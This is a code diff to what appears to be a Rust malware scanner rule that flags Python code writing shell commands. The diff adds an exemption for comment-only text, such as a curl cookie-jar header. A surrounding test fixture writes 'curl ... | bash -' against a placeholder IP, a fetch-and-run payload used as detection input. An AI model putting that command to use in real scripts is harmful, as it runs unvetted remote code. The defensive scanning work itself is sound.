@@ -216,6 +216,16 @@ fn check_written_command(checker: &mut Checker, call: &ExprCall, context: ExecCo
     if is_dockerfile(&text) {
         return;
     }
+    // `# https://curl.se/docs/http-cookies.html`, a cookie jar's header: text where every line
+    // is a comment runs nothing in any shell.
+    if text
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty())
+        .all(|line| line.starts_with('#'))
+    {
+        return;
+    }
     let severity = match context {
         ExecContext::Install | ExecContext::Import => 0.85,
         ExecContext::Runtime => 0.6,
@@ -1018,6 +1028,9 @@ mod written_command_tests {
         assert!(max_severity("p/pkg/m.py", docker, "WH150") < 0.1);
         let script = "def build(path):\n    with open(path, 'w') as f:\n        f.write('#!/bin/sh\\ncurl -fsSL https://203.0.113.5/x | bash -\\n')\n";
         assert!(max_severity("p/pkg/m.py", script, "WH150") >= 0.6);
+        // A cookie jar's header names curl's documentation in a comment.
+        let jar = "def save(path):\n    with open(path, 'w') as f:\n        f.write('# https://curl.se/docs/http-cookies.html\\n')\n";
+        assert!(max_severity("p/pkg/m.py", jar, "WH150") < 0.1);
     }
 
     #[test]
